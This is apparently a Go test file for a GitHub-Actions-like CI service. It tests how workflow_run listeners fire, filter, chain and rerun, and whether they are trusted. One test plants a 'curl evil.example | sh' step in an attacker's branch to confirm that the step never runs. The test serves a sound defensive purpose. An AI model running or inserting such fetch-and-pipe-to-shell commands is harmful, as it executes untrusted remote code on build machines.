package store

import (
	"context"
	"database/sql"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"shithub-actions/internal/git"
	"shithub-actions/internal/workflow"
)

// ciWorkflow is the triggering workflow of these tests: one job only the
// runner "rc" (label ci) takes, so the listeners' jobs never get in its way.
const ciWorkflow = "name: CI\non: push\njobs:\n  build:\n    runs-on: ci\n    steps: [{run: echo}]\n"

// listener is a workflow named name that runs on workflow_run with the
// given filter lines (under on.workflow_run).
func listener(name, filter string) string {
	return "name: " + name + "\non:\n  workflow_run:\n" + filter + "jobs:\n  d:\n    runs-on: ubuntu-latest\n    steps: [{run: echo}]\n"
}

// wrGit runs git in dir with no user configuration.
func wrGit(t *testing.T, dir string, args ...string) string {
	t.Helper()
	cmd := exec.Command("git", append([]string{"-C", dir}, args...)...)
	cmd.Env = append(os.Environ(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL="+os.DevNull, "HOME="+dir)
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("git %v: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// wrCommit writes files into the work tree dir and commits them on the
// branch checked out; it returns the commit.
func wrCommit(t *testing.T, dir string, files map[string]string) string {
	t.Helper()
	for name, content := range files {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(content), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	wrGit(t, dir, "add", "-A")
	wrGit(t, dir, "-c", "user.name=T", "-c", "user.email=t@example.com", "commit", "-q", "--allow-empty", "-m", "commit")
	return wrGit(t, dir, "rev-parse", "HEAD")
}

// wrRepo is a repository of alice whose default branch main holds files;
// it returns the repository, its work tree and main's head.
func (ts *testStore) wrRepo(name string, files map[string]string) (*Repo, string, string) {
	t := ts.t.(*testing.T)
	t.Helper()
	dir := t.TempDir()
	wrGit(t, dir, "init", "-q", "-b", "main")
	sha := wrCommit(t, dir, files)
	repo, err := ts.CreateRepo(context.Background(), ts.users["alice"], name, filepath.Join(dir, ".git"), false)
	if err != nil {
		t.Fatal(err)
	}
	return repo, dir, sha
}

// ciRun makes a push run of ciWorkflow on repo at ref, as bob.
func (ts *testStore) ciRun(repo *Repo, ref, sha string) *Run {
	ts.t.Helper()
	return ts.runOf(repo, "ci.yml", ciWorkflow, ref, sha)
}

func (ts *testStore) runOf(repo *Repo, file, content, ref, sha string) *Run {
	ts.t.Helper()
	wf, err := workflow.Parse(file, []byte(content))
	if err != nil {
		ts.t.Fatal(err)
	}
	runs, _, err := ts.CreateRuns(context.Background(), nil, []RunSpec{{
		RepoID: repo.ID, File: ".shithub/workflows/" + file, Content: []byte(content), Workflow: wf,
		HeadSHA: sha, HeadRef: ref, Event: "push", ActorID: ts.users["bob"].ID,
	}})
	if err != nil {
		ts.t.Fatal(err)
	}
	return runs[0]
}

// fire is FireWorkflowRuns, which must not fail here.
func (ts *testStore) fire(st *Store) int {
	ts.t.Helper()
	n, err := st.FireWorkflowRuns(context.Background())
	if err != nil {
		ts.t.Fatal(err)
	}
	return n
}

// wrRuns lists repo's workflow_run runs, oldest first.
func (ts *testStore) wrRuns(repo *Repo) []*Run {
	ts.t.Helper()
	runs, _, err := ts.ListRuns(context.Background(), repo.ID, RunFilter{Event: "workflow_run"}, 1, 100)
	if err != nil {
		ts.t.Fatal(err)
	}
	slices.Reverse(runs)
	return runs
}

// event is a run's github.event.workflow_run field.
func wrField(r *Run, key string) any {
	wr, _ := r.EventPayload["workflow_run"].(map[string]any)
	return wr[key]
}

// TestWorkflowRunFiresEachTypeOnce: a listener with no types hears a
// run's requested, in_progress and completed once each, in that order,
// with the run as it was then; firing again starts nothing.
func TestWorkflowRunFiresEachTypeOnce(t *testing.T) {
	ts := newTestStore(t)
	ctx := context.Background()
	repo, _, head := ts.wrRepo("wr", map[string]string{".shithub/workflows/deploy.yml": listener("Deploy", "    workflows: [CI]\n")})
	rc, _, err := ts.CreateRunner(ctx, "rc", []string{"ci"})
	if err != nil {
		t.Fatal(err)
	}
	ci := ts.ciRun(repo, "refs/heads/main", ts.sha)
	if n := ts.fire(ts.Store); n != 1 {
		t.Fatalf("after the run was made: started %d, want 1 (requested)", n)
	}
	if n := ts.fire(ts.Store); n != 0 {
		t.Fatalf("fired again: started %d, want 0", n)
	}
	cj, err := ts.ClaimJob(ctx, rc, []string{"ci"})
	if err != nil || cj == nil {
		t.Fatalf("claim: %v, %v", cj, err)
	}
	if n := ts.fire(ts.Store); n != 1 {
		t.Fatalf("after the claim: started %d, want 1 (in_progress)", n)
	}
	if err := ts.CompleteJobWith(ctx, rc.ID, cj.JobID, "completed", "failure", nil, ""); err != nil {
		t.Fatal(err)
	}
	if n := ts.fire(ts.Store); n != 1 {
		t.Fatalf("after the run completed: started %d, want 1 (completed)", n)
	}
	if n := ts.fire(ts.Store); n != 0 {
		t.Fatalf("fired again: started %d, want 0", n)
	}
	runs := ts.wrRuns(repo)
	want := []struct{ action, status, conclusion any }{
		{"requested", "queued", nil}, {"in_progress", "in_progress", nil}, {"completed", "completed", "failure"},
	}
	if len(runs) != len(want) {
		t.Fatalf("%d workflow_run runs, want %d", len(runs), len(want))
	}
	for i, r := range runs {
		w := want[i]
		if r.EventPayload["action"] != w.action || wrField(r, "status") != w.status || wrField(r, "conclusion") != w.conclusion {
			t.Errorf("run %d: action %v, status %v, conclusion %v; want %v", i, r.EventPayload["action"], wrField(r, "status"), wrField(r, "conclusion"), w)
		}
		if r.WorkflowFile != ".shithub/workflows/deploy.yml" || r.WorkflowName != "Deploy" || r.HeadSHA != head ||
			r.HeadRef != "refs/heads/main" || r.ActorID != ts.users["bob"].ID {
			t.Errorf("run %d: %s %q at %s %s by %d; want deploy.yml on main's head by bob", i, r.WorkflowFile, r.WorkflowName, r.HeadRef, r.HeadSHA, r.ActorID)
		}
		for key, v := range map[string]any{"id": float64(ci.ID), "name": "CI", "head_branch": "main", "head_sha": ts.sha,
			"event": "push", "path": ".shithub/workflows/ci.yml", "run_number": float64(ci.RunIndex), "run_attempt": float64(1),
			"html_url": fmt.Sprintf("/alice/wr/actions/runs/%d", ci.RunIndex)} {
			if got := wrField(r, key); got != v {
				t.Errorf("run %d: workflow_run.%s = %v, want %v", i, key, got, v)
			}
		}
		if wf, _ := r.EventPayload["workflow"].(map[string]any); wf["name"] != "CI" || wf["path"] != ".shithub/workflows/ci.yml" {
			t.Errorf("run %d: workflow = %v", i, r.EventPayload["workflow"])
		}
		if repo, _ := r.EventPayload["repository"].(map[string]any); repo["full_name"] != "alice/wr" {
			t.Errorf("run %d: repository = %v", i, r.EventPayload["repository"])
		}
	}
	// The github context of a workflow_run job says so.
	gh := ts.githubContext(runs[2], repo, "d")
	if gh["event_name"] != "workflow_run" || gh["ref"] != "refs/heads/main" {
		t.Errorf("github context: event_name %v, ref %v", gh["event_name"], gh["ref"])
	}
}

// TestWorkflowRunFilters: types and the branch filters decide, matched
// against the triggering run's workflow name and head branch; a listener
// naming no workflow that exists, a disabled one and one that does not
// parse start nothing, and their activities are still marked done.
func TestWorkflowRunFilters(t *testing.T) {
	tests := []struct {
		name   string
		filter string
		ref    string
		want   int // runs started over requested, in_progress (none here) and completed
	}{
		{"all types", "    workflows: [CI]\n", "refs/heads/main", 2},
		{"completed only", "    workflows: [CI]\n    types: [completed]\n", "refs/heads/main", 1},
		{"requested only", "    workflows: [CI]\n    types: requested\n", "refs/heads/main", 1},
		{"branches match", "    workflows: [CI]\n    types: [completed]\n    branches: [main, 'release/**']\n", "refs/heads/release/1.2", 1},
		{"branches miss", "    workflows: [CI]\n    types: [completed]\n    branches: [main]\n", "refs/heads/dev", 0},
		{"branches-ignore", "    workflows: [CI]\n    types: [completed]\n    branches-ignore: ['dev*']\n", "refs/heads/dev2", 0},
		{"branches-ignore other", "    workflows: [CI]\n    types: [completed]\n    branches-ignore: ['dev*']\n", "refs/heads/main", 1},
		{"negated pattern", "    workflows: [CI]\n    branches: ['**', '!wip']\n", "refs/heads/wip", 0},
		{"tag", "    workflows: [CI]\n    types: [completed]\n    branches: [v1]\n", "refs/tags/v1", 1},
		{"nonexistent workflow", "    workflows: [Nope]\n", "refs/heads/main", 0},
		{"one of several", "    workflows: [Nope, CI]\n    types: [completed]\n", "refs/heads/main", 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			ts := newTestStore(t)
			repo, _, _ := ts.wrRepo("wr", map[string]string{".shithub/workflows/deploy.yml": listener("Deploy", tt.filter)})
			run := ts.ciRun(repo, tt.ref, ts.sha)
			if _, err := ts.CancelJobs(context.Background(), run.ID, 0); err != nil { // requested, then completed
				t.Fatal(err)
			}
			if n := ts.fire(ts.Store); n != tt.want {
				t.Errorf("started %d, want %d", n, tt.want)
			}
			var pending int
			if err := ts.db.QueryRow("SELECT COUNT(*) FROM workflow_run_events WHERE done = 0").Scan(&pending); err != nil || pending != 0 {
				t.Errorf("pending activities = %d, %v; want 0", pending, err)
			}
		})
	}
	// Disabled, broken: nothing; a workflow without name: is matched by path.
	ts := newTestStore(t)
	repo, _, _ := ts.wrRepo("wr", map[string]string{
		".shithub/workflows/off.yml":    listener("Off", "    workflows: [CI]\n"),
		".shithub/workflows/broken.yml": listener("Broken", "    workflows: [CI]\n    typo: x\n"),
		".shithub/workflows/path.yml":   listener("ByPath", "    workflows: [.shithub/workflows/unnamed.yml]\n    types: [requested]\n"),
	})
	files, err := DefaultBranchWorkflows(context.Background(), git.Repo{Dir: repo.GitDir})
	if err != nil {
		t.Fatal(err)
	}
	if err := ts.SyncWorkflows(context.Background(), repo.ID, files); err != nil {
		t.Fatal(err)
	}
	off, err := ts.WorkflowByPath(context.Background(), repo.ID, ".shithub/workflows/off.yml")
	if err != nil {
		t.Fatal(err)
	}
	if err := ts.SetWorkflowState(context.Background(), repo.ID, off.ID, WorkflowDisabled); err != nil {
		t.Fatal(err)
	}
	ts.ciRun(repo, "refs/heads/main", ts.sha)
	ts.runOf(repo, "unnamed.yml", "on: push\njobs:\n  a:\n    runs-on: ci\n    steps: [{run: x}]\n", "refs/heads/main", ts.sha)
	ts.fire(ts.Store)
	runs := ts.wrRuns(repo)
	if len(runs) != 1 || runs[0].WorkflowName != "ByPath" {
		t.Errorf("runs = %d (%v), want one of ByPath", len(runs), runs)
	}
}

// TestWorkflowRunChainLimit: GitHub's three levels. A (push) runs B, B
// runs C, C runs D, and D's activity starts E no more; a listener that
// names itself stops there too.
func TestWorkflowRunChainLimit(t *testing.T) {
	ts := newTestStore(t)
	on := func(w string) string { return "    workflows: [" + w + "]\n    types: [requested]\n" }
	repo, _, _ := ts.wrRepo("wr", map[string]string{
		".shithub/workflows/b.yml": listener("B", on("CI")),
		".shithub/workflows/c.yml": listener("C", on("B")),
		".shithub/workflows/d.yml": listener("D", on("C")),
		".shithub/workflows/e.yml": listener("E", on("D")),
		".shithub/workflows/s.yml": listener("Self", "    workflows: [CI, Self]\n    types: [requested]\n"),
	})
	ts.ciRun(repo, "refs/heads/main", ts.sha)
	for ts.fire(ts.Store) > 0 {
	}
	var names []string
	for _, r := range ts.wrRuns(repo) {
		names = append(names, r.WorkflowName)
	}
	slices.Sort(names)
	// Self runs at levels 1, 2 and 3.
	if want := []string{"B", "C", "D", "Self", "Self", "Self"}; !slices.Equal(names, want) {
		t.Errorf("workflow_run runs = %v, want %v", names, want)
	}
}

// TestWorkflowRunRerun: a re-run is a new attempt whose activities fire
// again (as GitHub's re-runs do), each once, with run_attempt 2.
func TestWorkflowRunRerun(t *testing.T) {
	ts := newTestStore(t)
	ctx := context.Background()
	repo, _, _ := ts.wrRepo("wr", map[string]string{".shithub/workflows/deploy.yml": listener("Deploy", "    workflows: [CI]\n    types: [completed]\n")})
	run := ts.ciRun(repo, "refs/heads/main", ts.sha)
	if _, err := ts.CancelJobs(ctx, run.ID, 0); err != nil {
		t.Fatal(err)
	}
	if n := ts.fire(ts.Store); n != 1 {
		t.Fatalf("first attempt: started %d, want 1", n)
	}
	again, err := ts.RerunSome(ctx, ts.run(run.ID), ts.users["bob"], nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := ts.CancelJobs(ctx, again.ID, 0); err != nil {
		t.Fatal(err)
	}
	if n := ts.fire(ts.Store); n != 1 {
		t.Fatalf("re-run: started %d, want 1", n)
	}
	if n := ts.fire(ts.Store); n != 0 {
		t.Fatalf("fired again: started %d, want 0", n)
	}
	runs := ts.wrRuns(repo)
	if len(runs) != 2 || wrField(runs[1], "run_attempt") != float64(2) || wrField(runs[1], "id") != float64(again.ID) ||
		wrField(runs[1], "previous_attempt_url") == nil {
		t.Errorf("runs = %d, second's workflow_run = %v", len(runs), runs[len(runs)-1].EventPayload["workflow_run"])
	}
}

// TestWorkflowRunDefaultBranchFile: the listener is read from the default
// branch's head, never from the triggering run's commit: a branch that
// changes the listener or adds one (an attacker's pull request) changes
// nothing that runs.
func TestWorkflowRunDefaultBranchFile(t *testing.T) {
	ts := newTestStore(t)
	good := listener("Deploy", "    workflows: [CI]\n    types: [completed]\n")
	repo, dir, head := ts.wrRepo("wr", map[string]string{".shithub/workflows/deploy.yml": good})
	wrGit(t, dir, "checkout", "-q", "-b", "evil")
	evil := wrCommit(t, dir, map[string]string{
		".shithub/workflows/deploy.yml": strings.Replace(good, "echo", "curl evil.example | sh", 1),
		".shithub/workflows/extra.yml":  listener("Extra", "    workflows: [CI]\n"),
	})
	wrGit(t, dir, "checkout", "-q", "main")
	run := ts.ciRun(repo, "refs/heads/evil", evil)
	if _, err := ts.CancelJobs(context.Background(), run.ID, 0); err != nil {
		t.Fatal(err)
	}
	ts.fire(ts.Store)
	runs := ts.wrRuns(repo)
	if len(runs) != 1 {
		t.Fatalf("%d runs, want 1 (main's Deploy)", len(runs))
	}
	r := runs[0]
	content, err := ts.RunContent(context.Background(), r.ID)
	if err != nil {
		t.Fatal(err)
	}
	if r.HeadSHA != head || string(content) != good || wrField(r, "head_sha") != evil || wrField(r, "head_branch") != "evil" {
		t.Errorf("run at %s with %q; workflow_run head %v %v", r.HeadSHA, content, wrField(r, "head_branch"), wrField(r, "head_sha"))
	}
}

// TestWorkflowRunNoneLostNoneTwice: an activity recorded before a crash
// is fired by the next server; two servers on one database fire it once.
func TestWorkflowRunNoneLostNoneTwice(t *testing.T) {
	ts := newTestStore(t)
	repo, _, _ := ts.wrRepo("wr", map[string]string{".shithub/workflows/deploy.yml": listener("Deploy", "    workflows: [CI]\n    types: [requested]\n")})
	ts.ciRun(repo, "refs/heads/main", ts.sha)
	select {
	case <-ts.WorkflowRunWake():
	default:
		t.Error("no wake-up after the activity committed")
	}
	other := ts.reopen(Options{}) // the server after a restart, or a second one
	if n := ts.fire(other); n != 1 {
		t.Errorf("the other store started %d, want 1", n)
	}
	if n := ts.fire(ts.Store); n != 0 {
		t.Errorf("the first store started %d, want 0", n)
	}
	// A type is recorded once per run, whatever calls it again.
	err := ts.WithTx(context.Background(), func(tx *sql.Tx) error {
		for range 2 {
			if err := ts.noteRunActivity(tx, 1, "in_progress", "running", "", 0); err != nil {
				return err
			}
		}
		return nil
	})
	var n int
	if err == nil {
		err = ts.db.QueryRow("SELECT COUNT(*) FROM workflow_run_events WHERE run_id = 1 AND action = 'in_progress'").Scan(&n)
	}
	if err != nil || n != 1 {
		t.Errorf("in_progress recorded %d times, %v; want once", n, err)
	}
}

// TestWorkflowRunQueryPlans: the pending activities are found through
// their index, never by scanning every run's.
func TestWorkflowRunQueryPlans(t *testing.T) {
	ts := newTestStore(t)
	p := ts.queryPlan(sqlPendingActivities, int64(0))
	t.Logf("pending activities: %s", p)
	if strings.Contains(p, "SCAN ") && !strings.Contains(p, "USING INDEX workflow_run_events_pending") ||
		!strings.Contains(p, "workflow_run_events_pending") {
		t.Errorf("plan %q does not use workflow_run_events_pending", p)
	}
}

// TestWorkflowRunTrust: a fork's pull request run is untrusted; the
// workflow_run run it triggers runs the default branch's file and is
// trusted, as on GitHub, with its own token of its own permissions; what
// it gets from the fork's run is data in github.event only.
func TestWorkflowRunTrust(t *testing.T) {
	ts := newTestStore(t)
	ctx := context.Background()
	repo, _, _ := ts.wrRepo("wr", map[string]string{".shithub/workflows/deploy.yml": listener("Deploy", "    workflows: [CI]\n    types: [requested]\n")})
	wf, err := workflow.Parse("ci.yml", []byte(ciWorkflow))
	if err != nil {
		t.Fatal(err)
	}
	runs, _, err := ts.CreateRuns(ctx, nil, []RunSpec{{
		RepoID: repo.ID, File: ".shithub/workflows/ci.yml", Content: []byte(ciWorkflow), Workflow: wf,
		HeadSHA: ts.sha, HeadRef: "refs/pull/7/merge", Event: "pull_request", ActorID: ts.users["dave"].ID,
		Payload: map[string]any{"action": "opened", "number": 7, "pull_request": map[string]any{"number": 7,
			"head": map[string]any{"ref": "feature", "sha": ts.sha, "repo": map[string]any{"full_name": "mallory/wr"}},
			"base": map[string]any{"ref": "main"}}},
	}})
	if err != nil {
		t.Fatal(err)
	}
	if !isForkPullRequest(runs[0].Event, ts.run(runs[0].ID).EventPayload, repo.FullName()) {
		t.Fatal("the fork's run is not untrusted: the test proves nothing")
	}
	if n := ts.fire(ts.Store); n != 1 {
		t.Fatalf("started %d, want 1", n)
	}
	cj := ts.heartbeat() // r1 takes only ubuntu-latest: the Deploy job
	if cj == nil || cj.WorkflowName != "Deploy" {
		t.Fatalf("claimed %+v, want Deploy's job", cj)
	}
	if cj.Untrusted || cj.Event != "workflow_run" || cj.HeadRef != "refs/heads/main" {
		t.Errorf("Deploy's job: untrusted %v, event %s, ref %s; want trusted workflow_run on main", cj.Untrusted, cj.Event, cj.HeadRef)
	}
	if wrField(ts.wrRuns(repo)[0], "head_branch") != "feature" {
		t.Errorf("workflow_run.head_branch = %v, want the pull request's head branch", wrField(ts.wrRuns(repo)[0], "head_branch"))
	}
}
